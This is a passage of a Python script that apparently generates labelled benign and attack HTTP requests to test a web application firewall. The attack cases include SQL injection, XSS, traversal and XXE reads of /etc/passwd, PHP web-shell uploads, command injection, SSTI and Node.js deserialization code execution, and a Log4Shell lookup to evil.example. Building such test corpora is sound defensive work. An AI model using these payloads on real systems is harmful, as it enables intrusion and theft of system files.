    r("attack","json unicode escape sqli","/api","POST",h(J),'{"id":"1\\u0027 or \\u00271\\u0027=\\u00271"}')
    r("attack","json key xss","/api","POST",h(J),'{"<script>alert(1)</script>":"x"}')
    r("attack","json deep xss","/api","POST",h(J),json.dumps({"a":{"b":{"c":["<img src=x onerror=alert(1)>"]}}}))
    r("attack","vnd json sqli","/api","POST",h(("Content-Type","application/vnd.api+json")),json.dumps({"q":"1' union select password from users--"}))
    r("attack","semicolon sqli","/s?a=1;b=1'%20union%20select%201,2--")
    r("attack","cookie sqli","/",headers=h(("Cookie","session=abc; id=1' or '1'='1")))
    r("attack","cookie name xss","/",headers=h(("Cookie","<script>alert(1)</script>=1")))
    r("attack","arg name sqli","/s?1'%20union%20select%20null--=x")
    r("attack","double enc traversal","/s?f=%252e%252e%252fetc%252fpasswd")
    r("attack","overlong utf8 traversal","/s?f=%c0%ae%c0%ae/etc/passwd")
    r("attack","nbsp sqli","/s?id=1%C2%A0union%C2%A0select%C2%A0password%C2%A0from%C2%A0users")
    r("attack","tab sqli","/s?id=1%09union%09select%09password%09from%09users")
    r("attack","comment sqli","/s?id=1/**/union/**/select/**/password/**/from/**/users")
    r("attack","case xss","/s?q=%3CsCrIpT%3Ealert(1)%3C/ScRiPt%3E")
    r("attack","referer sqli","/",headers=h(("Referer","http://x/?id=1' union select 1,2,3--")))
    r("attack","ua scanner","/",headers=[["User-Agent","sqlmap/1.7.2#stable (https://sqlmap.org)"],["Accept","*/*"]])
    r("attack","xml xxe","/x","POST",h(("Content-Type","application/xml")),'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')
    r("attack","multipart filename php","/up","POST",h(("Content-Type","multipart/form-data; boundary=XyZ")),'--XyZ\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\nContent-Type: application/octet-stream\r\n\r\n<?php system($_GET["c"]); ?>\r\n--XyZ--\r\n')
    r("attack","form array sqli","/f","POST",h(F),"ids[]=1&ids[]="+u.quote_plus("2) union select user,pass from admin--"))
    r("attack","cmd backtick","/s?h="+u.quote("x`cat /etc/passwd`"))
    r("attack","cmd ifs","/s?h="+u.quote(";cat${IFS}/etc/passwd"))
    r("attack","ssti","/s?n="+u.quote("{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"))
    r("attack","log4shell header","/",headers=h(("X-Api-Version","${jndi:ldap://evil.example/a}")))
    r("attack","php wrapper","/s?page=php://filter/convert.base64-encode/resource=index.php")
    r("attack","fullwidth xss","/s?q="+u.quote("＜script＞alert(1)＜/script＞"))
    X = ("Content-Type", "text/xml; charset=utf-8")
    for name, doc in [
        ("soap 1.1", '<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><soap:Body><GetPrice xmlns="http://tempuri.org/"><Item>Apples</Item></GetPrice></soap:Body></soap:Envelope>'),
        ("atom", '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>News</title><link href="http://example.org/"/></feed>'),
        ("svg", '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="red"/></svg>'),
        ("xhtml", '<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body><p>hi</p></body></html>'),
        ("dtd system", '<?xml version="1.0"?><!DOCTYPE note SYSTEM "Note.dtd"><note><to>Tove</to></note>'),
        ("dtd internal entity", '<?xml version="1.0"?><!DOCTYPE note [<!ENTITY who "Tove">]><note><to>&who;</to></note>'),
    ]:
        r("benign", "xml " + name, "/x", "POST", h(X), doc)
    r("attack", "xml attribute xss", "/x", "POST", h(X), '<note><a href="javascript:alert(document.cookie)">x</a></note>')
    r("attack", "svg onload", "/x", "POST", h(X), '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    return out


# Headers of the requests the payload-list corpora send (a browser's, with a body's type).
FORM = [["User-Agent", BROWSER[0][1]], ["Accept", "*/*"], ["Content-Type", "application/x-www-form-urlencoded"]]
XML = [["User-Agent", BROWSER[0][1]], ["Accept", "*/*"], ["Content-Type", "application/xml"]]


def uploads():
    """Multipart bodies as real clients write them (every one `benign`): a browser's, curl's,
    Go's, Python requests', OkHttp's (a Content-Length per part), .NET's (a quoted boundary,
    charsets on text parts), Java's Apache HttpClient in its browser mode (charsets) and
    Spring's (a charset after the boundary), Go's escaping of a quote in a field name (`\\"`),
    `filename*`; then attacks in a part's value,
    name, file name, content and part headers (a charset CRS does not allow, `_charset_`,
    Content-Transfer-Encoding, a header name outside ASCII)."""
    out = []

    def mp(kind, name, parts, boundary="----WebKitFormBoundary7MA4YWxkTrZu0gW", ct=None):
        body = "".join(f"--{boundary}\r\n" + "".join(h + "\r\n" for h in headers) + "\r\n" + content + "\r\n"
                       for headers, content in parts) + f"--{boundary}--\r\n"
        ct = ct or f"multipart/form-data; boundary={boundary}"
        out.append(req(kind, name, "/upload", "POST", with_h(("Content-Type", ct)), body))

    cd = lambda n, f=None: f'Content-Disposition: form-data; name="{n}"' + (f'; filename="{f}"' if f is not None else "")
    text = "Hello -- it's me, and I'd like 2 tickets (or 3)."
    mp("benign", "a browser: a field and a PDF", [([cd("title")], text), ([cd("file", "report.pdf"), "Content-Type: application/pdf"], "%PDF-1.4 ...")])
    mp("benign", "a browser: a file name with accents and spaces", [([cd("file", "résumé final.docx"), "Content-Type: application/octet-stream"], "PK...")])
    mp("benign", "curl -F", [([cd("note")], text), ([cd("data", "rows.csv"), "Content-Type: text/csv"], "id,name\n1,O'Brien\n2,Smith-Jones")],
       boundary="------------------------d74496d66958873e")
    mp("benign", "Go's mime/multipart", [([cd("comment")], text)], boundary="1e2a7c09f8a5b3d6c4e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1")
    mp("benign", "Python requests", [([cd("avatar", "me.png"), "Content-Type: image/png"], "\u0089PNG...")], boundary="9b1c6f5e2d3a4b7c8d9e0f1a2b3c4d5e")
    mp("benign", "OkHttp: a Content-Length per part", [([cd("comment"), f"Content-Length: {len(text)}"], text)], boundary="a7f1c2e3-4b5d-6e7f-8091-a2b3c4d5e6f7")
    mp("benign", ".NET: a quoted boundary, a charset on the text part",
       [(["Content-Type: text/plain; charset=utf-8", "Content-Disposition: form-data; name=comment"], text)],
       boundary="4c2b9a1e-7d3f-4e5a-9b8c-1d2e3f4a5b6c", ct='multipart/form-data; boundary="4c2b9a1e-7d3f-4e5a-9b8c-1d2e3f4a5b6c"')
    mp("benign", "Java HttpClient (browser mode): charsets on text parts",
       [([cd("comment"), "Content-Type: text/plain; charset=ISO-8859-1"], text), ([cd("lang"), "Content-Type: text/plain; charset=UTF-8"], "en")],
       boundary="Jd8x2Y4kQ9vZpL0sN3mT6rW1aB5cE7gH")
    mp("benign", "Spring: a charset after the boundary", [([cd("comment")], text)],
       boundary="----geckoformboundary4a7acee3709293e183ef2932a147a331",
       ct="multipart/form-data;boundary=----geckoformboundary4a7acee3709293e183ef2932a147a331;charset=UTF-8")
    mp("benign", "Go's mime/multipart: a field name with a quote, escaped", [(['Content-Disposition: form-data; name="say \\"hi\\""'], text)],
       boundary="1e2a7c09f8a5b3d6c4e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1")
    mp("benign", "filename* (RFC 5987)", [([cd("file", "resume.pdf") + "; filename*=UTF-8''r%C3%A9sum%C3%A9.pdf", "Content-Type: application/pdf"], "%PDF")])
    mp("attack", "sqli in a part", [([cd("q")], "1' union select password from users--")])
    mp("attack", "xss in a part", [([cd("bio")], "<img src=x onerror=alert(document.cookie)>")])
    mp("attack", "sqli in a part name", [([cd("' or 1=1--")], "x")])
    mp("attack", "traversal in a file name", [([cd("file", "../../../etc/passwd"), "Content-Type: text/plain"], "x")])
    mp("attack", "a PHP upload", [([cd("file", "shell.php"), "Content-Type: application/x-php"], "<?php system($_GET['c']); ?>")])
    mp("attack", "a part in UTF-7", [([cd("q"), "Content-Type: text/plain; charset=utf-7"], "+ADw-script+AD4-alert(1)+ADw-/script+AD4-")])
    mp("attack", "_charset_ UTF-7", [([cd("_charset_")], "utf-7"), ([cd("q")], "+ADw-script+AD4-")])
    mp("attack", "Content-Transfer-Encoding base64", [([cd("q"), "Content-Transfer-Encoding: base64"], "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")])
    mp("attack", "a part header name outside ASCII", [([cd("q"), "X-Ünicode: 1"], "x")])
    mp("attack", "JSON in a part, with XSS", [([cd("meta"), "Content-Type: application/json"], '{"a":"<script>alert(1)</script>"}')])
    return out


NODE_JS = ["_$$ND_FUNC$$_function(){require('child_process').exec('id', function(e,o){})}()",
           '{"rce":"_$$ND_FUNC$$_function (){require(\'child_process\').exec(\'ls /\')}()"}',
           "while(true){}", "while(1){}", "eval(String.fromCharCode(97,108,101,114,116))",
           "new Function('return process')().mainModule.require('child_process')",
           "this.constructor.constructor('return process')()", "module.exports=function(){}",
           "process.mainModule.require('fs').readFileSync('/etc/passwd')", "x=_$$ND_FUNC$$_function(){}"]
TOKENS = ["100%2525 off today", "a%2B%2Bb", "50%25 cheaper", "tag%3Cb%3E", "Hello world, how are you?",
          "session=abc.def-ghi_jkl", "550e8400-e29b-41d4-a716-446655440000", "Zm9vYmFy", "SGVsbG8gV29ybGQ",
          "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
          "The function() keyword in JavaScript", "while (true) we walked", "eval() is discussed here",
          "%2565val%2528", "%2577hile%2528true%2529", "100%25 natural%252C organic", "x%253D1%2526y%253D2"]


def base64_payloads(seed):
    out = []
    for payload in NODE_JS:
        padded = base64.b64encode(payload.encode()).decode()
        for how, encoded in (("padded", padded), ("unpadded", padded.rstrip("="))):
            name = f"{how} {payload[:24]}"
            out += [req("attack", f"{name} in a query", "/?data=" + q(encoded), headers=BROWSER),
                    req("attack", f"{name} in a cookie", "/", headers=with_h(("Cookie", "profile=" + q(encoded)))),
                    req("attack", f"{name} in a form", "/submit", "POST", FORM, "data=" + q(encoded))]
    rng = random.Random(seed)
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    tokens = TOKENS + ["".join(rng.choice(alphabet) for _ in range(rng.randint(5, 40))) for _ in range(40)]
    for token in tokens:
        # Escapes already in a token stay as written: the doubly-escaped ones are the test.
        value = urllib.parse.quote(token, safe="%")
        out += [req("benign", f"{token[:30]} in a query", "/?v=" + value, headers=BROWSER),
                req("benign", f"{token[:30]} in a cookie", "/", headers=with_h(("Cookie", "sid=" + value)))]
    return out


ON_WORDS = ["design ontwerp", "Industrieel Ontwerper", "music on", "online", "onboarding=done", "only=true", "onion rings",
            "one=two", "onderhoud gepland", "ontario,onkel", "once upon a time", "onSale=1", "on=off", "ongoing&onset",
            "Bonn on Rhine", "foo=...ZQ/ONSQg==", "x onwards=1", "onkeypressed", "ontologie", "onTrack=yes"]
EVENT_HANDLERS = ["<x onclick=alert(1)>", "\" onmouseover=alert(1) x=\"", "onerror=alert(1)", "' onfocus=alert(1) autofocus '",
                  "<svg onload=alert(1)>", "<img src=x onerror=prompt(1)>", "x onpointerenter=alert(1)",
                  "<body onpageshow=alert(1)>", "<a onauxclick=alert(1)>x</a>", "<details ontoggle=alert(1) open>"]


def events():
    out = []
    for words in ON_WORDS:
        out += [req("benign", f"query {words}", "/search?q=" + q(words), headers=BROWSER),
                req("benign", f"form {words}", "/search", "POST", FORM, "q=" + q(words)),
                req("benign", f"referer {words}", "/", headers=with_h(("Referer", "https://www.example.com/search?q=" + qp(words)))),
                req("benign", f"cookie {words}", "/", headers=with_h(("Cookie", "pref=" + q(words))))]
    for attack in EVENT_HANDLERS:
        out += in_query_and_form("xss", attack, "/search", "q")
    return out


DISPOSITIONS = [
    ("a file name with accents", 'form-data; name="file"; filename="résumé.pdf"'),
    ("a file name and its RFC 5987 form (.NET)", "form-data; name=\"file\"; filename=\"r_sum_.pdf\"; filename*=utf-8''r%C3%A9sum%C3%A9.pdf"),
    ("only the RFC 5987 form", "form-data; name=\"file\"; filename*=UTF-8''x.txt"),
    ("a Windows path", 'form-data; name="file"; filename="C:\\Users\\ann\\notes.txt"'),
    ("an escaped quote in the name (Go)", 'form-data; name="say \\"hi\\""'),
    ("an escaped backslash in the file name (Go)", 'form-data; name="file"; filename="a\\\\b.txt"'),
    ("an empty file name", 'form-data; name="file"; filename=""'),
    ("a semicolon inside quotes", 'form-data; name="a;b"'),
    ("an unquoted name", "form-data; name=title"),
    ("no space after the semicolon", 'form-data;name="a"'),
    ("a semicolon at the end", 'form-data; name="a";'),
    ("a semicolon and a space at the end", 'form-data; name="a"; '),
    ("the name given twice", 'form-data; name="a"; name="b"'),
    ("the file name given twice", 'form-data; name="file"; filename="x.txt"; filename="y.txt"'),
    ("an empty name", 'form-data; name=""'),
    ("Name in capitals", 'form-data; Name="a"'),
    ("FORM-DATA in capitals", 'FORM-DATA; name="a"'),
    ("a size parameter", 'form-data; name="a"; size=12'),
    ("a creation-date parameter", 'form-data; name="a"; creation-date="Wed, 12 Feb 1997 16:29:51 -0500"'),
    ("an unquoted name with a slash", "form-data; name=a/b"),
    ("an unquoted name with brackets", "form-data; name=a[]"),
    ("a single quote inside an unquoted name", "form-data; name=a'b"),
    ("a name in single quotes", "form-data; name='a'"),
    ("single quotes around a semicolon", "form-data; name='x; filename=y'"),
    ("an unclosed quote", 'form-data; name="a'),
    ("text after the closing quote", 'form-data; name="a"x'),
    ("not form-data", 'attachment; name="a"'),
]


def dispositions():
    out = []
    for name, disposition in DISPOSITIONS:
        body = f"--XyZ\r\nContent-Disposition: {disposition}\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n"
        out.append(req("benign", name, "/upload", "POST", with_h(("Content-Type", "multipart/form-data; boundary=XyZ")), body))
    return out


# Queries as curl, Go's client or a script send them when a URL is typed: `"`, `<`, `>`, `{`,
# `|`, a backtick, and letters past ASCII left as they are (a browser would percent-encode
# all but `{`, `|` and the backtick).
TYPED_BENIGN = ['/search?q="exact+phrase"', '/api/items?filter={"status":"open","tag":"a|b"}', '/s?q=a<b',
                '/s?q=price>100', '/compare?expr=1<2&op=<=', '/s?q="rock"+and+"roll"', '/s?q=C++"templates"',
                '/wiki/"Quoted"_title', '/s?q=<3+love', '/api?sort=`name`', '/s?q=x>=1+and+y<=2',
                '/s?q="O\'Reilly"', '/search?q=bread+>+cake', '/s?tags=<none>',
                '/search?q=über', '/wiki/東京', '/s?q=café+crème', '/wiki/Straße', '/s?q=naïve+"résumé"',
                '/s?q=😀+emoji', '/s?q=Привет+мир', '/s?q=1€', '/s?q=«quoted»+—+dash', '/s?q=日本語のテキスト',
                # Latin-1 as typed, raw bytes (a lone surrogate is the byte `waf_replay` sends)
                '/s?q=\udcfcber', '/s?q=caf\udce9+cr\udce8me', '/wiki/Stra\udcdfe']
TYPED_ATTACK = ['/s?q=<script>alert(1)</script>', '/s?q="><svg/onload=alert(1)>', '/s?q=1"+or+"1"="1',
                '/s?q=<img+src=x+onerror=alert(1)>', '/s?q=;cat+/etc/passwd>/tmp/x', '/s?q=<?php+system("id");?>',
                '/s?x=`id`"', '/<script>alert(1)</script>', '/s?q="+union+select+1,2--',
                '/s?q=<script>alert("ü")</script>', "/s?q=1'+or+'ä'='ä", '/s?q=＜script＞alert(1)＜/script＞',
                '/s?q=;cat+/etc/passwd+ü', '/s?q=../../../../etc/passwd&l=ü',
                "/s?q=ö'+union+select+password+from+users--",
                "/s?q=\udcf6'+union+select+password+from+users--", '/s?q=<script>alert("\udcfc")</script>']


def typed():
    return ([req("benign", f"typed {t}", t) for t in TYPED_BENIGN] +
            [req("attack", f"typed {t}", t) for t in TYPED_ATTACK])


def in_query_and_form(family, value, path, field):
    """`value` as a scanner sends it: in a query argument, then in a form field."""
    return [req("attack", f"{family} query {value}", f"{path}?{field}=" + qp(value)),
            req("attack", f"{family} form {value}", path, "POST", FORM, f"{field}=" + qp(value))]


def installed(folder, package):
    if not os.path.isdir(folder):
        raise SystemExit(f"{folder} is missing: apt-get install -y {package}")


WFUZZ = "/usr/share/wfuzz/wordlist"


def wfuzz_list(name):
    installed(WFUZZ, "wfuzz")
    lines = open(f"{WFUZZ}/{name}", encoding="latin-1").read().splitlines()
    return [l.strip("\r") for l in lines if l.strip("\r")]


def as_written(payload):
    """The payload in a request target as a fuzzer sends it: its own escapes kept, only what
    cannot stand in a request line (spaces, controls, `#`, bytes past ASCII) escaped."""
    return "".join(c if 0x21 <= ord(c) <= 0x7e and c != "#" else q(c) for c in payload)


def wfuzz(seed, count):
    rng = random.Random(seed)
    out = []
    lists = ["Injections/SQL.txt", "Injections/XSS.txt", "Injections/Traversal.txt", "Injections/XML.txt",
             "vulns/dirTraversal.txt", "vulns/dirTraversal-nix.txt", "vulns/dirTraversal-win.txt"]
    for name in lists:
        family = name.split("/")[1][:-4]
        for payload in wfuzz_list(name):
            out.append(req("attack", f"{family} query {payload}", "/search?q=" + as_written(payload)))
            out.append(req("attack", f"{family} form {payload}", "/f", "POST", FORM, "a=1&q=" + qp(payload)))
            if "raversal" in family:
                out.append(req("attack", f"{family} path {payload}", "/static/" + as_written(payload.lstrip("/"))))
            if family == "XML":
                out.append(req("attack", f"{family} body {payload}", "/api", "POST", XML, payload))
    names = wfuzz_list("others/names.txt")
    words = wfuzz_list("general/megabeast.txt")
    for _ in range(count // 2):
        name = " ".join(rng.choice(names) for _ in range(rng.randint(1, 3)))
        out.append(req("benign", "name " + name, "/people?name=" + qp(name)))
        text = " ".join(rng.choice(words) for _ in range(rng.randint(2, 8)))
        out.append(req("benign", "words " + text, "/f", "POST", FORM, "a=1&msg=" + qp(text)))
    return out


SQLMAP = "/usr/share/sqlmap/data/xml"


def sqlmap(seed):
    import glob, re, xml.etree.ElementTree as ET
    installed(SQLMAP, "sqlmap")
    rng = random.Random(seed)
    boundaries = [(b.findtext("prefix") or "", b.findtext("suffix") or "")
                  for b in ET.parse(f"{SQLMAP}/boundaries.xml").getroot().findall("boundary")]
    number = lambda: str(rng.randint(1000, 9999))
    fills = {  # as sqlmap fills them for a first probe (agent.py, its tests' vectors)
        "RANDNUM": number, "RANDSTR": lambda: "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(4)),
        "SLEEPTIME": lambda: "5", "DELIMITER_START": lambda: "qkjvq", "DELIMITER_STOP": lambda: "qxpvq",
        "ORIGVALUE": lambda: "1", "ORIGINAL": lambda: "1", "GENERIC_SQL_COMMENT": lambda: "-- -", "CHAR": lambda: "NULL",
        "COLSTART": lambda: "", "COLSTOP": lambda: "", "SPACE_REPLACE": lambda: " ", "DOLLAR_REPLACE": lambda: "$",
        "AT_REPLACE": lambda: "@", "HASH_REPLACE": lambda: "#", "QUERY": lambda: "SELECT " + number(),
        "DELAYED": lambda: "SLEEP(5)", "UNION": lambda: "UNION ALL SELECT NULL",
    }
    fills["INFERENCE"] = lambda: f"{(n := number())}={n}"
    fill = lambda text: re.sub(r"\[([A-Z_]+?)\d*\]", lambda m: fills.get(m.group(1), lambda: m.group(0))(), text)
    out = []
    for path in sorted(glob.glob(f"{SQLMAP}/payloads/*.xml")):
        kind = os.path.basename(path)[:-4]
        for test in ET.parse(path).getroot().findall("test"):
            payload = test.findtext("request/payload") or ""
            if not payload:  # UNION tests are built when run: the shape sqlmap sends
                nulls = "NULL," * rng.randint(0, 3)
                payload = f"UNION ALL SELECT {nulls}CONCAT(0x716b6a7671,0x{rng.randbytes(10).hex()},0x7178707671)"
            comment = test.findtext("request/comment") or ""
            for prefix, suffix in rng.sample(boundaries, 3):
                value = fill(f"1{prefix} {payload}{comment}{suffix}")
                out += in_query_and_form(kind, value, "/item", "id")
    return out


WAPITI = "/usr/lib/python3/dist-packages/wapitiCore/data/attacks"


def wapiti(seed):
    import configparser, re
    installed(WAPITI, "wapiti")
    rng = random.Random(seed)
    fills = {"TIME": "5", "TIMEOUT": "5", "VALUE": "1", "DIRVALUE": "img", "EXTVALUE": "page.php",
             "FILE_NAME": "index.php", "FILE_NOEXT": "index", "LF": "\n", "TAB": "\t", "FF": "\f",
             "EXTERNAL_ENDPOINT": "http://203.0.113.9/", "SESSION_ID": "s1", "PATH_ID": "1",
             "PARAM_AS_HEX": "6964", "ATTR_SEP": " ", "VALUE_SEP": " "}
    fill = lambda text: re.sub(r"\[([A-Z_]+)\]", lambda m: fills.get(m.group(1), m.group(0)), text) \
        .replace("__XSS__", f"w{rng.randint(1000, 9999)}").replace("\\0", "\0")
    def ini(name):
        parser = configparser.ConfigParser(interpolation=None)
        parser.read(f"{WAPITI}/{name}")
        return [parser[section]["payload"] for section in parser.sections() if "payload" in parser[section]]
    def lines(name):
        return [l for l in open(f"{WAPITI}/{name}").read().splitlines() if l.strip()]
    out = []
    lists = [("xss", ini("xssPayloads.ini")), ("blind-sql", lines("blindSQLPayloads.txt")),
             ("exec", lines("execPayloads.txt")), ("file", ini("fileHandlingPayloads.ini"))]
    for family, payloads in lists:
        for payload in map(fill, payloads):
            out += in_query_and_form(family, payload, "/page", "q")
    for payload in map(fill, ini("xxePayloads.ini")):
        out.append(req("attack", f"xxe body {payload}", "/api", "POST", XML, payload))
    return out


def main():
    ap = argparse.ArgumentParser(usage=__doc__)
    ap.add_argument("kind", choices=["probe", "words", "shapes", "edges", "uploads", "base64", "events", "dispositions", "typed",
                                   "wfuzz", "sqlmap", "wapiti"])
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--count", type=int, default=3000)
    args = ap.parse_args()
    cases = {"probe": probe, "shapes": shapes, "edges": edges, "uploads": uploads, "wfuzz": lambda: wfuzz(args.seed, args.count),
             "sqlmap": lambda: sqlmap(args.seed), "base64": lambda: base64_payloads(args.seed),
             "events": events, "dispositions": dispositions, "typed": typed,
             "wapiti": lambda: wapiti(args.seed)}.get(
        args.kind, lambda: words(args.seed, args.count))()
    for case in cases:
        print(json.dumps(case, ensure_ascii=False))


if __name__ == "__main__":
    main()
